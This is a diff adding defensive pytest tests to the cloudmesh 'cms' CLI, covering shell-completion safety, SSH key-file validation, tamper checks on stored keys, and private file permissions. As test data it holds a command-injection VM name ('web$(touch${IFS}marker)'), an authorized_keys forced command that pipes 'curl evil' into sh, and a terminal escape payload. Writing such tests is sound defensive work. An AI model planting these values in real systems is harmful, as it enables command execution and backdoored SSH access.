@@ -701,3 +701,137 @@ def test_ssh_config_writer_with_any_cloud_text(tmp_path: Path, monkeypatch, name
     home_files = sorted(p.name for p in (home / ".ssh").iterdir())
     assert home_files == ["config"]
     shutil.rmtree(home)
+
+
+# ---- issue 21: completion, one key per key file, private files ------------------------
+@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
+def test_a_cached_name_with_code_completes_to_a_name_not_a_command(cms_home: Path,
+                                                                   tmp_path: Path) -> None:
+    """A VM named web$(touch${IFS}marker), cached as 'vm list' caches it: 'cms vm info
+    we<TAB>' and Enter give cms the name and create no marker."""
+    from cloudmesh.compute.state import State
+    from test_shell_completion import CLOSED, bash_complete, bash_runs
+
+    name = "web$(touch${IFS}marker)"
+    write_config(cms_home, {"moto": aws_cloud_spec(CLOSED)}, default="moto")
+    state = State(cms_home / "cloudmesh.db")
+    state.cache_replace("moto", "vm", [{"name": name, "status": "running", "cloud": "moto"}])
+    state.close()
+    offered = bash_complete("cms vm info we")
+    assert len(offered) == 1, offered
+    work = tmp_path / "cwd"
+    work.mkdir()
+    assert bash_runs("cms vm info " + offered[0], work) == ["vm", "info", name]
+    assert not (work / "marker").exists()
+
+
+def two_keys(tmp_path: Path) -> tuple[Path, str, str]:
+    """A .pub file with alice's key on line 1 and a root: line with mallory's on line 2."""
+    from cloudmesh.compute.keys import generate_ed25519
+
+    alice = generate_ed25519(tmp_path / "alice", "alice@laptop")["public_key"]
+    mallory = generate_ed25519(tmp_path / "mallory", "mallory")["public_key"]
+    team = tmp_path / "team.pub"
+    team.write_text(f"{alice}\nroot:{mallory}\n")
+    return team, alice, mallory
+
+
+def test_a_key_file_with_a_hidden_second_key_is_refused(cms_home: Path,
+                                                        tmp_path: Path) -> None:
+    team, alice, _ = two_keys(tmp_path)
+    line = one_line_error(run_cms("key", "add", "team", f"--source={team}"), 2)
+    assert "2 keys" in line and "--source" in line, line
+    assert run_cms("key", "list", "--output=json").json() == []
+    alone = tmp_path / "alice-only.pub"
+    for text, words in ((f"root:{alice}\n", "login prefix"),
+                        (f'command="curl evil|sh" {alice}\n', "options"),
+                        (f'from="10.0.0.0/8" {alice}\n', "options"),
+                        (f"{alice}\r\nssh-ed25519\n", "2 keys"),
+                        (f"{alice} a\x1b]0;owned\x07\n", "control character")):
+        alone.write_text(text)
+        assert words in one_line_error(run_cms("key", "add", "k", f"--source={alone}"), 2)
+    alone.write_text(alice + "\n")
+    assert run_cms("key", "add", "alice", f"--source={alone}").code == 0
+
+
+def test_a_tampered_registry_key_never_reaches_a_vm(tmp_path: Path) -> None:
+    """A registry entry whose text holds a second key (written behind cms's back) is
+    re-validated on use: the boot is refused before the cloud is asked; a good key reaches
+    the VM as its one canonical line."""
+    from cloudmesh.compute.state import State
+
+    host = MultipassHost(tmp_path)
+    team, alice, mallory = two_keys(tmp_path)
+    state = State(tmp_path / "config" / "cloudmesh.db")
+    state.key_put({"name": "team", "type": "ssh-ed25519", "fingerprint": "SHA256:x",
+                   "public_key": team.read_text(), "path": str(team), "private_path": None})
+    state.close()
+    refused = host.cms("vm", "boot", "--name=vm1", "--key=team", "--username=alice",
+                       "--cloud=multipass")
+    assert refused.returncode == 2 and "2 keys" in refused.stderr, refused.stderr
+    assert "Traceback" not in refused.stderr
+    assert not host.instances()
+    (tmp_path / "alice.pub").write_text(f"  {alice}  \n")
+    assert host.cms("key", "add", "alice", f"--source={tmp_path / 'alice.pub'}").returncode == 0
+    booted = host.cms("vm", "boot", "--name=vm2", "--key=alice", "--username=alice",
+                      "--cloud=multipass")
+    assert booted.returncode == 0, booted.stderr
+    import yaml
+
+    cloud_init = host.instances()["vm2"]["cloud_init"]
+    users = [u for u in yaml.safe_load(cloud_init)["users"] if isinstance(u, dict)]
+    assert [u["ssh_authorized_keys"] for u in users] == [[alice]], cloud_init
+    assert mallory.split()[1] not in cloud_init
+
+
+def test_the_history_file_is_private_from_its_first_byte(cms_home: Path,
+                                                         monkeypatch) -> None:
+    """With umask 022, the cms> history is 0600 when its writer first holds it open, even
+    for a writer that opens it with the default mode (libedit's does), and an older
+    readable history is made private before it is written again."""
+    import io
+    import readline
+
+    from cloudmesh.compute import repl
+
+    seen: list[int] = []
+
+    def writer(path) -> None:  # as libedit writes it: open(), the default mode
+        with open(path, "w") as handle:
+            seen.append(stat.S_IMODE(os.fstat(handle.fileno()).st_mode))
+            handle.write("version\n")
+
+    monkeypatch.setattr(readline, "write_history_file", writer)
+    old = os.umask(0o022)
+    try:
+        for existing in (False, True):
+            if existing:
+                (cms_home / "history").chmod(0o644)
+            monkeypatch.setattr(sys, "stdin", io.StringIO("quit\n"))
+            assert repl._interactive(repl.Shell()) == 0
+    finally:
+        os.umask(old)
+    assert seen == [0o600, 0o600]
+    assert stat.S_IMODE((cms_home / "history").stat().st_mode) == 0o600
+    assert os.umask(old) == old  # the umask is given back
+
+
+def test_a_private_key_is_created_0600_never_chmod_ed(cms_home: Path, monkeypatch) -> None:
+    from cloudmesh.compute import keys
+
+    created: list[tuple[str, int, int]] = []
+    real_open, real_chmod = os.open, os.chmod
+    chmods: list[str] = []
+    monkeypatch.setattr(os, "open", lambda path, flags, mode=0o777, **kw: (
+        created.append((str(path), flags, mode)), real_open(path, flags, mode, **kw))[1])
+    monkeypatch.setattr(os, "chmod", lambda path, *a, **kw: (
+        chmods.append(str(path)), real_chmod(path, *a, **kw))[1])
+    old = os.umask(0o022)
+    try:
+        entry = keys.generate_ed25519(cms_home / "keys" / "lab", "test")
+    finally:
+        os.umask(old)
+    private = [c for c in created if c[0] == entry["private_path"]]
+    assert len(private) == 1 and private[0][2] == 0o600 and private[0][1] & os.O_EXCL
+    assert entry["private_path"] not in chmods
+    assert stat.S_IMODE(os.stat(entry["private_path"]).st_mode) == 0o600
